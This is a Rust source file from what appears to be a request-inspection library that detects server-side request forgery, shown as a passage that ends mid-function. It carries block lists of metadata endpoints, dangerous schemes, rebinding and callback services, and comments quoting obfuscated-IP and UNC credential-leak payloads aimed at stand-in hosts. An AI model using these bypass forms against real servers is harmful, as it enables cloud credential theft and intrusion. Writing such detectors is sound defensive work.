//! Server-side request forgery: URLs are parsed (scheme, userinfo, host, port) and hosts are
//! read the way resolvers read them: dotted, decimal (`2852039166`), hex (`0xa9fea9fe`),
//! octal (`0251.0376.0251.0376`), short forms (`127.1`), IPv6 (mapped, compatible, the IMDS
//! `fd00:ec2::254`), full-width and circled digits. Targets: the instance/container metadata
//! services, the Lambda Runtime API and extension listeners on loopback, loopback in general,
//! private ranges (scheme-relative `//10.0.0.5/` at paranoia 2), and schemes that reach beyond
//! HTTP (`file:`, `gopher:`, `dict:`, `ldap:`, `tftp:`, `jar:`, `netdoc:`, JNDI's `rmi:`).

use super::subject::{
    class, find, find_iter, gate, is_header, is_word, last_key, Hit, Needs, Subject, Tables,
};
use std::net::{Ipv4Addr, Ipv6Addr};

/// Schemes that reach beyond HTTP; `rmi:`, `iiop:` and `corbaname:` are the JNDI providers a
/// lookup loads remote objects through, as `ldap:` is.
const DANGEROUS_SCHEMES: &[&[u8]] = &[
    b"file",
    b"gopher",
    b"dict",
    b"ldap",
    b"ldaps",
    b"tftp",
    b"netdoc",
    b"jar",
    b"smb",
    b"sftp",
    b"rmi",
    b"iiop",
    b"iiopname",
    b"corbaname",
];

/// Paths that only metadata services and the Lambda runtime serve, and whether they tell
/// anywhere in a value. The ECS and Azure ones are also ordinary REST paths
/// (`https://chat.twilio.com/v2/Credentials/CR…`): on a named host they are that host's, so
/// they count only as the relative URI a server prefixes with its metadata address
/// (`AWS_CONTAINER_CREDENTIALS_RELATIVE_URI`), opening the value; the metadata hosts
/// themselves are read with their URLs.
const METADATA_PATHS: &[(&[u8], &str, bool)] = &[
    (b"/latest/meta-data", "ssrf.metadata", true),
    (b"/latest/user-data", "ssrf.metadata", true),
    (b"/latest/api/token", "ssrf.metadata", true),
    (b"/latest/dynamic/instance-identity", "ssrf.metadata", true),
    (b"/computemetadata/v1", "ssrf.metadata", true),
    (b"/metadata/identity/oauth2", "ssrf.metadata", false),
    (b"/metadata/instance", "ssrf.metadata", false),
    (b"/v2/credentials/", "ssrf.metadata", false),
    (b"/2018-06-01/runtime/", "ssrf.lambda_runtime", true),
    (b"/2020-01-01/extension/", "ssrf.lambda_runtime", true),
    (b"/2022-07-01/telemetry", "ssrf.lambda_runtime", true),
    (b"/2020-08-15/logs", "ssrf.lambda_runtime", true),
];

pub(crate) const METADATA_HOSTS: &[&str] = &[
    "169.254.169.254",
    "169.254.170.2",
    "fd00:ec2::254",
    "metadata.google.internal",
    "metadata.goog",
    "100.100.100.200",
    "instance-data",
    "169-254-169-254",
    "a9fea9fe",
    "metadata.packet.net",
    "metadata.platformequinix.com",
];

/// DNS-rebinding services: `<address>.nip.io` resolves to the address; a name under one that
/// embeds none resolves to loopback (`x.localtest.me`), or to whatever the attacker asked of
/// it (`make-1.2.3.4-rebind-169.254-169.254-rr.1u.ms` alternates between two).
pub(crate) const REBINDING: &[&str] = &[
    ".nip.io",
    ".xip.io",
    ".sslip.io",
    ".traefik.me",
    ".1u.ms",
    ".localtest.me",
    ".lvh.me",
    ".vcap.me",
    ".localh.st",
    ".lacolhost.com",
    ".localdomain.pw",
];

/// Names that resolve to the machine itself or to its container host.
pub(crate) const LOOPBACK_NAMES: &[&str] = &[
    "localhost",
    "localhost4",
    "localhost6",
    "localhost.localdomain",
    "ip6-localhost",
    "ip6-loopback",
    "ipv6-localhost",
    "sandbox.localdomain",
    "host.docker.internal",
    "gateway.docker.internal",
    "kubernetes.docker.internal",
    "host.containers.internal",
    "host.lima.internal",
    // Public names whose every name resolves to 127.0.0.1 (PayloadsAllTheThings, SSRF-Testing).
    "lvh.me",
    "localtest.me",
    "vcap.me",
    "localh.st",
    "lacolhost.com",
    "localdomain.pw",
    "traefik.me",
];

/// Suffixes of names only a private network resolves: `.internal`, which ICANN reserves for
/// private use (AWS's `ip-10-0-1-23.ec2.internal`, `….compute.internal`), and Kubernetes'
/// service names (`kubernetes.default.svc`, `….svc.cluster.local`). A URL to one is a URL to
/// a private address.
pub(crate) const PRIVATE_SUFFIXES: &[&str] = &[".internal", ".svc", ".cluster.local"];

/// Out-of-band interaction services of scanners (Burp Collaborator, interactsh, DNS logs): a
/// name under one of them exists only to see whether the server calls out, so wherever it
/// appears (a URL, a host, a UNC path, a lookup) it is a probe.
pub(crate) const OUT_OF_BAND: &[&str] = &[
    "burpcollaborator.net",
    "oastify.com",
    "interact.sh",
    "interactsh.com",
    "oast.pro",
    "oast.live",
    "oast.site",
    "oast.online",
    "oast.fun",
    "oast.me",
    "dnslog.cn",
    "dnslog.link",
    "ceye.io",
    "bxss.me",
    "canarytokens.com",
    "requestbin.net",
    // Request and blind-XSS capture services that exploits send data to.
    "webhook.site",
    "requestcatcher.com",
    "postb.in",
    "eyes.sh",
    // A redirect service for SSRF tests: `307.r3dir.me/--to/?url=…`, or the target in the name.
    "r3dir.me",
];

/// Top-level labels that make a URL's user name read as a host (`http://bank.com@evil.example/`).
const USER_TLDS: &[&[u8]] = &[
    b"com",
    b"net",
    b"org",
    b"io",
    b"gov",
    b"edu",
    b"mil",
    b"int",
    b"info",
    b"biz",
    b"app",
    b"dev",
    b"cloud",
    b"internal",
    b"local",
    b"localhost",
];

/// The Runtime API's and the Parameters and Secrets extension's ports: only the function
/// itself has reason to reach them.
const LAMBDA_PORTS: &[u16] = &[9001, 2773];

/// Ports the Lambda Runtime API (`127.0.0.1:9001`) and common extension listeners use.
/// 2773 is the AWS Parameters and Secrets extension's.
const RUNTIME_PORTS: &[u16] = &[
    9001, 9000, 9002, 8080, 2772, 2773, 4243, 8126, 8125, 4317, 4318,
];

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Target {
    Metadata,
    Loopback,
    Private,
    Other,
}

fn classify_v4(ip: Ipv4Addr) -> Target {
    let o = ip.octets();
    if o[0] == 169 && o[1] == 254 || ip == Ipv4Addr::new(100, 100, 100, 200) {
        Target::Metadata
    } else if o[0] == 127 || ip.is_unspecified() {
        Target::Loopback
    } else if ip.is_private() || (o[0] == 100 && (64..128).contains(&o[1])) {
        Target::Private
    } else {
        Target::Other
    }
}

fn classify_v6(ip: Ipv6Addr) -> Target {
    if let Some(v4) = ip.to_ipv4_mapped() {
        return classify_v4(v4);
    }
    let s = ip.segments();
    let embedded = || Ipv4Addr::from((u32::from(s[6]) << 16) | u32::from(s[7]));
    if s[..6] == [0; 6] && !ip.is_loopback() && !ip.is_unspecified() {
        // IPv4-compatible `::a9fe:a9fe`.
        return classify_v4(embedded());
    }
    if s[..6] == [0, 0, 0, 0, 0xffff, 0] {
        // IPv4-translated (SIIT) `::ffff:0:a9fe:a9fe`.
        return classify_v4(embedded());
    }
    if s[..2] == [0xfd00, 0xec2] {
        // AWS's IPv6 link-local services: IMDS `fd00:ec2::254`, EKS Pod Identity `fd00:ec2::23`.
        Target::Metadata
    } else if ip.is_loopback() || ip.is_unspecified() {
        Target::Loopback
    } else if (s[0] & 0xfe00) == 0xfc00 || (s[0] & 0xffc0) == 0xfe80 {
        Target::Private
    } else {
        Target::Other
    }
}

/// IPv4 as `inet_aton` reads it: 1–4 parts, each decimal, `0x` hex or `0` octal; the last part
/// fills the remaining bytes.
pub(crate) fn parse_ipv4_loose(host: &str) -> Option<Ipv4Addr> {
    let host = host.strip_suffix('.').unwrap_or(host);
    if host.is_empty() || !host.as_bytes()[0].is_ascii_digit() {
        return None;
    }
    let mut parts = [""; 4];
    let mut count = 0;
    for p in host.split('.') {
        if count == 4 {
            return None;
        }
        parts[count] = p;
        count += 1;
    }
    let parts = &parts[..count];
    let mut nums = [0u64; 4];
    for (i, p) in parts.iter().enumerate() {
        if p.is_empty() || p.len() > 12 {
            return None;
        }
        nums[i] = if let Some(h) = p.strip_prefix("0x") {
            if h.is_empty() {
                0
            } else {
                u64::from_str_radix(h, 16).ok()?
            }
        } else if p.len() > 1 && p.starts_with('0') {
            u64::from_str_radix(&p[1..], 8).ok()?
        } else {
            p.parse::<u64>().ok()?
        };
    }
    let n = parts.len();
    let mut value: u64 = 0;
    for (i, num) in nums.iter().enumerate().take(n - 1) {
        if *num > 255 {
            return None;
        }
        value |= num << (8 * (3 - i));
    }
    let last_bits = 8 * (5 - n as u64);
    if nums[n - 1] >= (1u64 << last_bits) {
        return None;
    }
    value |= nums[n - 1];
    u32::try_from(value).ok().map(Ipv4Addr::from)
}

/// Full-width and circled digits, circled letters and ideographic dots, as some resolvers
/// accept them.
fn fold_host(host: &[u8]) -> std::borrow::Cow<'_, str> {
    if host.is_ascii() {
        // Already lower-cased by the subject.
        return String::from_utf8_lossy(host);
    }
    let text = String::from_utf8_lossy(host);
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '\u{FF10}'..='\u{FF19}' => out.push(char::from(b'0' + (c as u32 - 0xFF10) as u8)),
            '\u{2460}'..='\u{2468}' => out.push(char::from(b'1' + (c as u32 - 0x2460) as u8)),
            '\u{2469}'..='\u{2473}' => out.push_str(&(c as u32 - 0x2460 + 1).to_string()),
            '\u{24EA}' | '\u{24FF}' => out.push('0'),
            // Circled letters (`ⓛⓞⓒⓐⓛⓗⓞⓢⓣ`): IDNA's compatibility mapping makes them ASCII.
            '\u{24B6}'..='\u{24CF}' => out.push(char::from(b'a' + (c as u32 - 0x24B6) as u8)),
            '\u{24D0}'..='\u{24E9}' => out.push(char::from(b'a' + (c as u32 - 0x24D0) as u8)),
            '\u{3002}' | '\u{FF0E}' | '\u{FF61}' => out.push('.'),
            c => out.extend(c.to_lowercase()),
        }
    }
    std::borrow::Cow::Owned(out)
}

/// Four decimal parts of up to six digits, one past 255, each kept to its low byte.
fn wrapped_quad(h: &str) -> Option<Ipv4Addr> {
    let mut octets = [0u8; 4];
    let mut parts = h.split('.');
    let mut over = false;
    for o in &mut octets {
        let p = parts.next()?;
        if !(1..=6).contains(&p.len()) || !p.bytes().all(|c| c.is_ascii_digit()) {
            return None;
        }
        let n: u32 = p.parse().ok()?;
        over |= n > 255;
        *o = n as u8;
    }
    (parts.next().is_none() && over).then(|| Ipv4Addr::from(octets))
}

/// What `host` names. `names`: whether it may hold a loopback, metadata or rebinding name (the
/// keyword pass saw one in the value, or the host was folded from non-ASCII forms); when it
/// cannot, only addresses are parsed.
fn classify_host(host: &str, names: bool) -> Target {
    let h = host.trim_end_matches('.');
    if let Some(inner) = h.strip_prefix('[').and_then(|x| x.strip_suffix(']')) {
        // The address ends where its characters do: a zone (`%eth0`, `%25`) or what decoding
        // made of one follows.
        let len = inner
            .bytes()
            .position(|c| !(c.is_ascii_hexdigit() || matches!(c, b':' | b'.')))
            .unwrap_or(inner.len());
        return inner[..len]
            .parse::<Ipv6Addr>()
            .map_or(Target::Other, classify_v6);
    }
    if let Some(v4) = parse_ipv4_loose(h) {
        return classify_v4(v4);
    }
    // A number past 2^32 names no host, but parsers that keep the low 32 bits read
    // `7147006462` as 169.254.169.254: only an internal result counts.
    if (10..=20).contains(&h.len()) && h.bytes().all(|c| c.is_ascii_digit()) {
        let wrapped = h.parse::<u64>().ok().map(|n| Ipv4Addr::from(n as u32));
        if let Some(t) = wrapped.map(classify_v4).filter(|t| *t != Target::Other) {
            return t;
        }
    }
    // A dotted quad with a part past 255 (`425.510.425.510`): parsers that wrap each part
    // read it as an address; again only an internal one counts.
    if let Some(t) = wrapped_quad(h)
        .map(classify_v4)
        .filter(|t| *t != Target::Other)
    {
        return t;
    }
    if !names {
        return Target::Other;
    }
    if LOOPBACK_NAMES.contains(&h) || h.ends_with(".localhost") {
        return Target::Loopback;
    }
    if METADATA_HOSTS.iter().any(|m| h.contains(m)) {
        return Target::Metadata;
    }
    if PRIVATE_SUFFIXES
        .iter()
        .any(|x| h.len() > x.len() && h.ends_with(x))
    {
        return Target::Private;
    }
    // DNS-rebinding helpers embed the address: `127.0.0.1.nip.io`, `169-254-169-254.sslip.io`.
    for service in REBINDING {
        if let Some(prefix) = h.strip_suffix(service) {
            let ip = prefix.rsplit('.').take(4).collect::<Vec<_>>();
            let dotted: String = ip.into_iter().rev().collect::<Vec<_>>().join(".");
            // sslip.io reads the last four dashed parts of the label: `app-10-0-0-1`.
            let label = prefix.rsplit('.').next().unwrap_or("");
            let parts = label.rsplit('-').take(4).collect::<Vec<_>>();
            let dashed = parts.into_iter().rev().collect::<Vec<_>>().join(".");
            for cand in [dotted, dashed] {
                if let Some(v4) = parse_ipv4_loose(&cand) {
                    return classify_v4(v4);
                }
            }
            return Target::Loopback;
        }
    }
    Target::Other
}

/// What `detect` needs to fire (see [`Needs`]): a URL's colon, a scheme-relative URL's `//`,
/// or a metadata path or host.
pub(crate) fn needs() -> Needs {
    Needs::classes(class::COLON)
        .or_gates(gate::SSRF_PATH | gate::SSRF_HOST)
        .or_gates(gate::SSRF_NAME)
        .or_words(&["//", "\\\\"])
        .reads_links()
}

/// OAuth parameters that carry where the browser returns with the code; the server compares
/// them with the client's registered ones and never fetches them.
const REDIRECT_KEYS: &[&str] = &[
    "redirect_uri",
    "redirect_url",
    "redirecturi",
    "redirecturl",
    "post_logout_redirect_uri",
    "redirect_uris",
];

/// A loopback URL no server fetches: a native app's redirect (RFC 8252 §7.3, what `aws sso
/// login`, `gcloud auth login` and `gh auth login` send: `http://127.0.0.1:51234/callback`)
/// as an OAuth redirect parameter, or the page a browser calls from during development as
/// the `Origin` or `Referer` header (`http://localhost:3000`). A plain URL to `127.0.0.1`,
/// `[::1]` or `localhost`, any port but the Runtime API's and the secrets extension's, then a
/// plain path and query.
fn unfetched_loopback(path: &str, b: &[u8]) -> bool {
    let key = last_key(path);
    let redirect = REDIRECT_KEYS.iter().any(|k| key.eq_ignore_ascii_case(k));
    if !redirect && !is_header(path, "origin") && !is_header(path, "referer") {
        return false;
    }
    let Some(rest) = b
        .strip_prefix(b"http://")
        .or_else(|| b.strip_prefix(b"https://").filter(|_| !redirect))
    else {
        return false;
    };
    let Some(rest) = [&b"127.0.0.1"[..], b"[::1]", b"localhost"]
        .iter()
        .find_map(|h| rest.strip_prefix(*h))
    else {
        return false;
    };
    let digits = rest
        .iter()
        .skip(1)
        .take_while(|c| c.is_ascii_digit())
        .count();
    let rest = match rest.first() {
        Some(b':') if (1..=5).contains(&digits) => {
            let port = std::str::from_utf8(&rest[1..=digits])
                .ok()
                .and_then(|p| p.parse::<u16>().ok());
            if port.is_none_or(|p| LAMBDA_PORTS.contains(&p)) {
                return false;
            }
            &rest[1 + digits..]
        }
        _ => rest,
    };
    rest.is_empty()
        || rest[0] == b'/'
            && rest
                .iter()
                .all(|c| c.is_ascii_alphanumeric() || b"/._~-?=&".contains(c))
}

/// A UNC path a Windows file API would open over SMB or WebDAV, sending the service's NTLM
/// credentials to the host: one with a dotted host (`\\evil.example\share`,
/// `\\10.0.0.5\x`), a WebDAV one (`\\host@SSL@443\x`), an administrative share
/// (`\\srv\c$\…`, `\\::1\c$\…`), or a device path (`\\.\pipe\…`, `\\?\UNC\…`). A share on a one-label
/// intranet host (`\\fileserver\team\q3.xlsx`) is an ordinary path.
fn unc_path(b: &[u8]) -> Option<Hit> {
    find_iter(b, b"\\\\").find_map(|p| {
        let opens = p == 0 || matches!(b[p - 1], b' ' | b'"' | b'\'' | b'=' | b'(' | b',' | b'\t');
        let host_end = b[p + 2..]
            .iter()
            .position(|c| {
                !(c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-' | b'_' | b'@' | b'?' | b':'))
            })
            .map_or(b.len(), |e| p + 2 + e);
        if !opens || host_end == p + 2 || b.get(host_end) != Some(&b'\\') {
            return None;
        }
        let host = &b[p + 2..host_end];
        let share = &b[host_end + 1..];
        let share = &share[..share
            .iter()
            .position(|c| *c == b'\\')
            .unwrap_or(share.len())];
        let device = host == b"." || (host == b"?" && share == b"unc");
        // An IPv6 literal (`\\::1\c$`) is an address, as a dotted one is.
        let remote = host.len() > 1
            && (host.contains(&b'.')
                || host.contains(&b'@')
                || host.iter().filter(|c| **c == b':').count() >= 2);
        let admin = share.len() > 1 && share.ends_with(b"$");
        (device || remote || admin).then(|| {
            Hit::new(
                "ssrf.unc_path",
                p,
                (host_end + 1 + share.len()).min(b.len()),
            )
        })
    })
}

/// Finds SSRF in one value.
pub(crate) fn detect(s: &Subject<'_>, _t: &Tables) -> Option<Hit> {
    let b = s.bytes();
    if s.paranoia <= 1 && unfetched_loopback(s.path, b) {
        return None;
    }
    if s.has(class::COLON) {
        let names = s.gate(gate::SSRF_NAME);
        if let Some(h) = (!named_link(b, s.plain_link && !names))
            .then(|| urls(b, names).or_else(|| remote_include(b)))
            .flatten()
            .or_else(|| remote_root(s.path, b))
        {
            return Some(h);
        }
    }
    if let Some(h) = scheme_relative(b, s.paranoia, s.gate(gate::SSRF_NAME)) {
        return Some(h);
    }
    // The `Host` header names the server itself: `localhost` there is not a target.
    // Only names count here, and the keyword pass saw none.
    if s.gate(gate::SSRF_NAME) && !is_header(s.path, "host") {
        if let Some(h) = bare_host(b) {
            return Some(h);
        }
    }
    if s.gate(gate::SSRF_NAME) {
        if let Some(h) = out_of_band(b) {
            return Some(h);
        }
    }
    if s.has(class::BACKSLASH) {
        if let Some(h) = unc_path(b) {
            return Some(h);
        }
    }
    if !s.has(class::COLON | class::SLASH | class::DOT) {
        return None;
    }
    if s.gate(gate::SSRF_PATH) {
        for (path, rule, anywhere) in METADATA_PATHS {
            if let Some(p) = find(b, path) {
                if *anywhere || b[..p].trim_ascii().is_empty() {
                    return Some(Hit::new(rule, p, p + path.len()));
                }
            }
        }
    }
    if s.gate(gate::SSRF_HOST) {
        for m in &METADATA_HOSTS[..3] {
            // Every occurrence: an unbounded one (`169.254.169.2549`) must not hide the next.
            for p in find_iter(b, m.as_bytes()) {
                let bounded = (p == 0 || !b[p - 1].is_ascii_alphanumeric())
                    && b.get(p + m.len()).is_none_or(|c| !c.is_ascii_digit());
                if bounded {
                    return Some(Hit::new("ssrf.metadata", p, p + m.len()));
                }
            }
        }
    }
    None
}

/// A scheme-relative URL (`//2852039166/`, `//127.0.0.1/admin`): what a client resolves against
/// its own scheme, and a server-side fetcher given `http:` in front.
fn scheme_relative(b: &[u8], paranoia: u8, names: bool) -> Option<Hit> {
    let start = b.iter().position(|c| !c.is_ascii_whitespace())?;
    if !b[start..].starts_with(b"//") {
        return None;
    }
    let host_start = start + 2;
    let a = authority_at(b, host_start, b.len().min(host_start + 300), names)?;
    let rule = match a.target {
        Target::Metadata => "ssrf.metadata",
        Target::Loopback if a.port.is_some_and(|p| RUNTIME_PORTS.contains(&p)) => {
            "ssrf.lambda_runtime"
        }
        Target::Loopback => "ssrf.loopback",
        Target::Private if paranoia >= 2 => "ssrf.private_address",
        _ => return None,
    };
    Some(Hit::new(rule, start, a.end))
}

/// A URL's authority read from `host_start` (up to `limit`): where it ends, its port and what
/// its host (after any `user@`) is.
struct Authority<'b> {
    end: usize,
    text: &'b [u8],
    port: Option<u16>,
    target: Target,
    /// An IPv4 host in a form only `inet_aton` reads (see [`obfuscated_ipv4`]).
    obfuscated: bool,
}

fn authority_at(b: &[u8], host_start: usize, limit: usize, names: bool) -> Option<Authority<'_>> {
    let end = host_start
        + b[host_start..limit]
            .iter()
            .position(|c| {
                matches!(
                    c,
                    b'/' | b'?'
                        | b'#'
                        | b'\\'
                        | b' '
                        | b'"'
                        | b'\''
                        | b'<'
                        | b'>'
                        | b'\t'
                        | b'\n'
                        | b'\r'
                        | b'`'
                )
            })
            .unwrap_or(limit - host_start);
    let text = &b[host_start..end];
    let after_user = memchr::memrchr(b'@', text).map_or(text, |at| &text[at + 1..]);
    let (host, port) = split_port(after_user);
    let folded = !host.is_ascii();
    let host = fold_host(host);
    if host.is_empty() {
        return None;
    }
    Some(Authority {
        end,
        text,
        port: port.and_then(|p| std::str::from_utf8(p).ok()?.parse::<u16>().ok()),
        target: classify_host(&host, names || folded),
        obfuscated: obfuscated_ipv4(&host, folded),
    })
}

/// The hours or minutes of a time (`13:45`, `10:42:07`): one to three digits with no dot are
/// no host a resolver reads as a target (`0`, which is 0.0.0.0, is).
fn clock(host: &[u8]) -> bool {
    (1..=3).contains(&host.len()) && host != b"0" && !host.contains(&b'.')
}

/// An IPv4 address written as no person writes one: one number (`1113982867`), hex or octal
/// parts (`0x42.0146.7.0x93`), fewer than four parts (`10.1`), or digits from other scripts.
/// Resolvers read them all, filters comparing the dotted form do not: in a URL it is a
/// filter bypass, whatever the address. So is a dotted quad with a part past 255
/// (`425.510.425.510`): no address and no host name (its top-level label is a number), it
/// means something only to parsers that wrap each part (169.254.169.254).
fn obfuscated_ipv4(host: &str, folded: bool) -> bool {
    let host = host.strip_suffix('.').unwrap_or(host);
    // One number up to 65535 is 0.0.x.y, which names no host (`0`, 0.0.0.0, is loopback and
    // read as such): it is a port, as in ELB's health-check targets `HTTP:80/index.html`.
    if host.parse::<u32>().is_ok_and(|n| (1..=65535).contains(&n)) {
        return false;
    }
    (parse_ipv4_loose(host).is_some() && (folded || host.parse::<Ipv4Addr>().is_err()))
        || wrapped_quad(host).is_some()
}

/// A value that is a loopback or metadata host *name* without a scheme (`localhost/admin`,
/// `host.docker.internal:2375`): what an API that prefixes `http://` will fetch. Addresses
/// alone are left to the URL checks (an IP in a header is usually just the client's).
fn bare_host(b: &[u8]) -> Option<Hit> {
    let start = b.iter().position(|c| !c.is_ascii_whitespace())?;
    let len = b[start..]
        .iter()
        .position(|c| matches!(c, b'/' | b':' | b'?' | b'#') || c.is_ascii_whitespace())
        .unwrap_or(b.len() - start);
    let host = std::str::from_utf8(&b[start..start + len]).ok()?;
    if !host.bytes().any(|c| c.is_ascii_alphabetic()) || parse_ipv4_loose(host).is_some() {
        return None;
    }
    // A host name: labels of letters, digits and hyphens (`0x../` is a path, not a host).
    let labels = host.strip_suffix('.').unwrap_or(host);
    if labels
        .split('.')
        .any(|l| l.is_empty() || !l.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'-'))
    {
        return None;
    }
    let rest = &b[start + len..];
    let tail_ok = rest.iter().all(|c| !c.is_ascii_whitespace());
    let rule = match classify_host(host, true) {
        Target::Loopback => "ssrf.loopback",
        Target::Metadata => "ssrf.metadata",
        // A private address is data, but one spelled into a rebinding service's name
        // (`10.0.0.1.nip.io`) was made to be fetched.
        Target::Private if REBINDING.iter().any(|r| host.ends_with(r)) => "ssrf.private_address",
        Target::Private | Target::Other => return None,
    };
    tail_ok.then(|| Hit::new(rule, start, start + len))
}

/// Remote file inclusion: a URL whose host is a raw public IP address (servers that host payloads
/// rarely have names), or one ending in `?` so that what the application appends (`.php`)
/// becomes a query string.
fn remote_include(b: &[u8]) -> Option<Hit> {
    // Where the URL at `sep` ends, kept across URLs (the first stop at or after the last search)
    // so that many `://` before one stop scan it once; and whether that end truncates.
    let mut stop = 0;
    let mut truncates: Option<(usize, bool)> = None;
    for sep in find_iter(b, b"://") {
        let mut ss = sep;
        while ss > 0 && b[ss - 1].is_ascii_alphabetic() {
            ss -= 1;
        }
        if !matches!(&b[ss..sep], b"http" | b"https" | b"ftp" | b"ftps") {
            continue;
        }
        let host_start = sep + 3;
        // The authority, then its host: after any `user@`, before any `:port`.
        let auth_len = b[host_start..]
            .iter()
            .position(|c| matches!(c, b'/' | b'?' | b'#') || c.is_ascii_whitespace())
            .unwrap_or(b.len() - host_start);
        let authority = &b[host_start..host_start + auth_len];
        let hostport = authority.rsplit(|c| *c == b'@').next().unwrap_or(authority);
        let host = split_port(hostport).0;
        // A public address: private ones are the private-range rule's (paranoia 2).
        let dotted = host.split(|c| *c == b'.').count() == 4
            && std::str::from_utf8(host)
                .ok()
                .and_then(|h| h.parse::<Ipv4Addr>().ok())
                .is_some_and(|ip| classify_v4(ip) == Target::Other);
        // The same in IPv6, bracketed as RFC 3986 writes it or bare as lenient parsers take it
        // (`https://2001:db8::1/x.php`).
        let v6 = || {
            let h = host.strip_prefix(b"[").and_then(|h| h.strip_suffix(b"]"));
            std::str::from_utf8(h.unwrap_or(hostport))
                .ok()
                .and_then(|h| h.parse::<Ipv6Addr>().ok())
                .is_some_and(|ip| classify_v6(ip) == Target::Other)
        };
        let dotted = dotted || hostport.contains(&b':') && v6();
        if stop < sep {
            stop = b[sep..]
                .iter()
                .position(|c| c.is_ascii_whitespace() || matches!(c, b'"' | b'\'' | b'<'))
                .map_or(b.len(), |e| sep + e);
        }
        // URLs end within a few KB.
        let url_end = stop.min(sep + 2048);
        // `…/file.txt?`: the last segment names a file (asked once per end).
        let truncating = url_end > host_start + auth_len + 1
            && b[url_end - 1] == b'?'
            && b[host_start + auth_len] == b'/'
            && match truncates {
                Some((end, names_file)) if end == url_end => names_file,
                _ => {
                    let seg = b[..url_end - 1].rsplit(|c| *c == b'/').next();
                    let names_file = seg.is_some_and(|seg| seg.contains(&b'.'));
                    truncates = Some((url_end, names_file));
                    names_file
                }
            };
        if dotted || truncating {
            return Some(Hit::new("ssrf.remote_include", ss, url_end));
        }
    }
    None
}

/// Parameter names of the directory an application includes its code from (`mosConfig_absolute_path`,
/// `_CONF[path]`, `GALLERY_BASEDIR`, `phpbb_root_path`): no client sets one honestly, and a
/// remote URL there makes the server include code from that host.
const INCLUDE_ROOTS: &[&[u8]] = &[
    b"absolute_path",
    b"abspath",
    b"basedir",
    b"base_dir",
    b"root_dir",
    b"rootdir",
    b"root_path",
    b"docroot",
    b"document_root",
    b"appserv_root",
    b"include_path",
    b"includedir",
    b"include_dir",
    b"inc_dir",
    b"_conf[path]",
    b"config[root_dir]",
    b"lib_path",
    b"class_path",
];

/// A remote URL as the value of an include-root parameter ([`INCLUDE_ROOTS`]).
fn remote_root(path: &str, b: &[u8]) -> Option<Hit> {
    let start = b.iter().position(|c| !c.is_ascii_whitespace())?;
    let v = &b[start..];
    let remote = [
        &b"http://"[..],
        b"https://",
        b"ftp://",
        b"ftps://",
        b"file://",
    ]
    .iter()
    .any(|s| v.starts_with(s));
    if !remote {
        return None;
    }
    // The parameter's name: what follows the last `.` of the path (or a bracketed member).
    let name = path.rsplit_once('.').map_or(path, |(_, n)| n).as_bytes();
    let named = INCLUDE_ROOTS
        .iter()
        .any(|r| name.len() >= r.len() && name.windows(r.len()).any(|w| w.eq_ignore_ascii_case(r)));
    named.then(|| Hit::new("ssrf.remote_include", start, b.len().min(start + 64)))
}

/// A plain link (`plain`: `subject::plain_url`, one colon, the scheme's; no port, `@`, `\\` or
/// space, and the keyword pass saw no loopback, metadata or rebinding name) to a host name
/// that holds a letter no address is written with (`https://shop.example.com/p`): [`urls`]
/// finds nothing in it (its host is no address and, unnamed, no target), nor
/// [`remote_include`] (no address, and a plain link never ends in `?`); most links of a large
/// body are so.
fn named_link(b: &[u8], plain: bool) -> bool {
    if !plain {
        return false;
    }
    let host_start = memchr::memchr(b':', b).map_or(0, |c| c + 3);
    b[host_start..]
        .iter()
        .take_while(|c| !matches!(c, b'/' | b'?'))
        .any(|c| matches!(c, b'g'..=b'w' | b'y' | b'z'))
}

fn urls(b: &[u8], names: bool) -> Option<Hit> {
    for colon in memchr::memchr_iter(b':', b) {
        let mut ss = colon;
        while ss > 0
            && (b[ss - 1].is_ascii_alphanumeric() || matches!(b[ss - 1], b'+' | b'-' | b'.'))
        {
            ss -= 1;
        }
        let scheme = &b[ss..colon];
        let rest = &b[colon + 1..];
        let slashes = rest
            .iter()
            .take_while(|c| matches!(c, b'/' | b'\\'))
            .count();
        if scheme.is_empty() {
            // `//host` after a non-scheme colon is not a URL; a bare `host:port` may be.
            continue;
        }
        if DANGEROUS_SCHEMES.contains(&scheme) {
            let valid = match scheme {
                b"file" => slashes >= 1,
                b"jar" => rest.starts_with(b"file:") || rest.starts_with(b"http") || slashes >= 2,
                // `corbaname:iiop:host:1050#name`, `corbaname::host`.
                b"corbaname" => {
                    rest.starts_with(b"iiop:") || rest.starts_with(b":") || slashes >= 2
                }
                _ => slashes >= 2,
            };
            let token = ss == 0 || !is_word(b[ss - 1]);
            if valid && token {
                return Some(Hit::new(
                    "ssrf.scheme",
                    ss,
                    (colon + 3 + slashes).min(b.len()),
                ));
            }
        }
        // WHATWG URL parsers (browsers, Node's `URL`) read `http:127.0.0.1` and
        // `http:/2852039166` as `http://…` for the special schemes.
        let special = matches!(scheme, b"http" | b"https" | b"ws" | b"wss" | b"ftp")
            && (ss == 0 || !is_word(b[ss - 1]))
            && rest
                .get(slashes)
                .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'[');
        let (host_start, authority_url) = if slashes >= 2 || special {
            (colon + 1 + slashes, true)
        } else if scheme.iter().all(|c| c.is_ascii_digit() || *c == b'.') && !clock(scheme)
            || scheme == b"localhost"
        {
            // `127.0.0.1:9001`, `localhost:9001` without a scheme.
            (ss, false)
        } else {
            continue;
        };
        // Host names are at most 253 bytes: the authority is looked for within a window; a
        // bare `host:port` ends with its port.
        let limit = if authority_url {
            b.len().min(host_start + 300)
        } else {
            let digits = b[colon + 1..]
                .iter()
                .take(6)
                .take_while(|c| c.is_ascii_digit())
                .count();
            colon + 1 + digits
        };
        let Some(Authority {
            end,
            text: authority,
            port,
            target,
            obfuscated,
        }) = authority_at(b, host_start, limit, names)
        else {
            continue;
        };
        let path = &b[end..];
        let span = |rule| {
            Some(Hit::new(
                rule,
                if authority_url { ss } else { host_start },
                end,
            ))
        };
        match target {
            Target::Metadata => return span("ssrf.metadata"),
            Target::Loopback => {
                let runtime = port.is_some_and(|p| RUNTIME_PORTS.contains(&p))
                    || METADATA_PATHS
                        .iter()
                        .any(|(m, r, _)| *r == "ssrf.lambda_runtime" && path.starts_with(m));
                if runtime {
                    return span("ssrf.lambda_runtime");
                }
                if authority_url {
                    return span("ssrf.loopback");
                }
            }
            _ => {}
        }
        // Web schemes only (the dangerous ones returned above): an app's deep link may name
        // a number (`myapp://12345`).
        let network = matches!(
            scheme,
